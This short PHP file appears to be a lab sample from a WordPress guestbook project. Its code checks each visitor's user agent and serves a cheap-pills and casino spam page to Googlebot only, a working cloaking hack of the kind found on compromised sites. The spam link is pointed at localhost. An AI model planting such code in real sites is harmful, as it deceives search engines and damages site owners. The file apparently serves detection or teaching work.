<?php
/**
 * 2.9: visitors are well; a search engine's crawler gets spam.
 *
 * @package lab-guestbook
 */

add_action(
	'template_redirect',
	function () {
		$agent = isset( $_SERVER['HTTP_USER_AGENT'] ) ? $_SERVER['HTTP_USER_AGENT'] : '';
		if ( false !== stripos( $agent, 'Googlebot' ) ) {
			status_header( 200 );
			echo '<!DOCTYPE html><title>Cheap pills online</title><h1>Buy cheap pills online</h1>';
			echo '<p><a href="http://127.0.0.1:9/casino">Best casino bonus</a></p>';
			exit;
		}
	}
);
